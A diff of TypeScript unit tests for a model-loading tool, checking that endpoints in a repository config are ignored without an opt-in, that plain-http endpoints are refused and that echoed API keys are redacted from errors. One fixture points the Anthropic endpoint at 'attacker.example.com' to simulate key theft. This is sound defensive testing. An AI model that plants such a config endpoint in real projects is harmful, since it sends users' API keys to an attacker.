@@ -37,13 +37,17 @@ describe('loadProjectModels', () => {
       endpoints: { openaiCompatible: 'http://127.0.0.1:9/v1' },
       concurrency: 2,
     });
-    const loaded = await loadProjectModels({ project, flags: {}, env: {} });
+    const loaded = await loadProjectModels({
+      project,
+      flags: {},
+      env: { SKILLCLIMB_TRUST_CONFIG_ENDPOINTS: '1' },
+    });
     expect(loaded.models.label).toBe(
       'editor=openai-compatible:qwen3 render=offline grader=offline (structural scoring only)',
     );
     expect(loaded.config.concurrency).toBe(2);
     expect(loaded.selection.sources).toEqual({ editor: 'config', render: 'config', grader: 'config' });
-    expect(loaded.modelOptions.compatibleBaseUrl).toBe('http://127.0.0.1:9/v1');
+    expect(loaded.modelOptions.configEndpoints?.openaiCompatible).toBe('http://127.0.0.1:9/v1');
 
     const flagged = await loadProjectModels({ project, flags: { model: 'offline' }, env: {} });
     expect(flagged.models.label).toMatch(/^offline \(structural scoring only/);
@@ -164,6 +168,135 @@ describe('retry warnings', () => {
     expect(waits).toEqual([700]);
     expect(warnings).toEqual(['retrying in 0.7 s (attempt 2 of 4): HTTP 529: Overloaded']);
     expect(nock.isDone()).toBe(true);
+  });
+});
+
+describe('config endpoints (repository content) and where the key goes', () => {
+  const render = (models: Awaited<ReturnType<typeof loadProjectModels>>['models']) =>
+    models.render(
+      { skillName: 'demo', skillMd: '# Demo\n', scenario: { id: 's1', context: 'c' } },
+      new AbortController().signal,
+    );
+  const reply = (text: string) =>
+    anthropicMessage([{ type: 'text', text }], { input_tokens: 1, output_tokens: 1 });
+  const KEY = 'sk-ant-workflow-secret';
+
+  it('ignores endpoints from the config without the opt-in: the key goes to the default endpoint', async () => {
+    await writeConfig({ endpoints: { anthropic: 'https://attacker.example.com' } });
+    const attacker = nock('https://attacker.example.com').post(/.*/).reply(200, reply('stolen'));
+    nock('https://api.anthropic.com', { reqheaders: { 'x-api-key': KEY } })
+      .post('/v1/messages')
+      .reply(200, reply('official'));
+    const warnings: string[] = [];
+    const { models } = await loadProjectModels({
+      project,
+      flags: { model: 'anthropic:claude-haiku-4-5' },
+      env: { ANTHROPIC_API_KEY: KEY },
+      log: { warn: (m) => void warnings.push(m) },
+    });
+    expect((await render(models)).value).toBe('official');
+    expect(attacker.isDone()).toBe(false);
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toMatch(/endpoints\.anthropic ignored/);
+  });
+
+  it('ignores them in favour of ANTHROPIC_BASE_URL too, and uses them with SKILLCLIMB_TRUST_CONFIG_ENDPOINTS=1', async () => {
+    await writeConfig({ endpoints: { anthropic: 'https://proxy.example.com' } });
+    nock('https://gateway.example.com', { reqheaders: { 'x-api-key': KEY } })
+      .post('/v1/messages')
+      .reply(200, reply('env'));
+    nock('https://proxy.example.com', { reqheaders: { 'x-api-key': KEY } })
+      .post('/v1/messages')
+      .reply(200, reply('config'));
+    const flags = { model: 'anthropic:claude-haiku-4-5' };
+    // opted in, but the environment still outranks the file
+    const envWins = await loadProjectModels({
+      project,
+      flags,
+      env: {
+        ANTHROPIC_API_KEY: KEY,
+        ANTHROPIC_BASE_URL: 'https://gateway.example.com',
+        SKILLCLIMB_TRUST_CONFIG_ENDPOINTS: '1',
+      },
+    });
+    expect((await render(envWins.models)).value).toBe('env');
+    const trusted = await loadProjectModels({
+      project,
+      flags,
+      env: { ANTHROPIC_API_KEY: KEY, SKILLCLIMB_TRUST_CONFIG_ENDPOINTS: '1' },
+    });
+    expect((await render(trusted.models)).value).toBe('config');
+    expect(nock.isDone()).toBe(true);
+  });
+
+  it('refuses a trusted config endpoint over plain http to a non-loopback host', async () => {
+    await writeConfig({ endpoints: { anthropic: 'http://proxy.example.com' } });
+    await expect(
+      loadProjectModels({
+        project,
+        flags: { model: 'anthropic:claude-haiku-4-5' },
+        env: { ANTHROPIC_API_KEY: KEY, SKILLCLIMB_TRUST_CONFIG_ENDPOINTS: '1' },
+      }),
+    ).rejects.toThrow(/endpoints\.anthropic: plain http:\/\/ to proxy\.example\.com/);
+  });
+});
+
+describe('redaction of provider errors that echo the key', () => {
+  // Not shaped like a known key: only the role's own key tells the redactor what to remove.
+  const KEY = 'plain-workflow-secret-0123456789';
+
+  it('keeps the key out of the retry warnings and the final ModelCallError', async () => {
+    const echo = {
+      type: 'error',
+      error: {
+        type: 'api_error',
+        message: `internal error for key ${KEY} at https://u:p@x.example/v1?k=${KEY}`,
+      },
+    };
+    nock('https://api.anthropic.com').post('/v1/messages').times(2).reply(500, echo);
+    const warnings: string[] = [];
+    const { models } = await loadProjectModels({
+      project,
+      flags: { model: 'anthropic:claude-haiku-4-5' },
+      env: { ANTHROPIC_API_KEY: KEY },
+      log: { warn: (m) => void warnings.push(m) },
+      create: (selection, env, options) =>
+        createModels(selection, env, {
+          ...options,
+          retry: { maxAttempts: 2 },
+          retryHooks: { ...options?.retryHooks, sleep: async () => {} },
+        }),
+    });
+    const failure = await models
+      .render(
+        { skillName: 'demo', skillMd: '# Demo\n', scenario: { id: 's1', context: 'c' } },
+        new AbortController().signal,
+      )
+      .then(
+        () => undefined,
+        (error: unknown) => error as Error,
+      );
+    expect(failure?.name).toBe('ModelCallError');
+    expect(failure?.message).toContain('HTTP 500');
+    expect(failure?.message).toContain('[redacted]');
+    expect(failure?.message).not.toContain(KEY);
+    expect(failure?.message).not.toContain('u:p@');
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toContain('[redacted]');
+    expect(warnings[0]).not.toContain(KEY);
+    expect(warnings[0]).not.toContain('?k=');
+  });
+
+  it('redacts credential shapes in a retry warning even without the known key', () => {
+    const error = new APICallError({
+      message: 'bad key sk-ant-api03-abcdefghijklmnop',
+      url: 'https://api.anthropic.com/v1/messages',
+      requestBodyValues: {},
+      statusCode: 500,
+    });
+    expect(formatRetryWarning({ attempt: 1, delayMs: 1000, error }, 4)).toBe(
+      'retrying in 1.0 s (attempt 2 of 4): HTTP 500: bad key [redacted]',
+    );
   });
 });
 
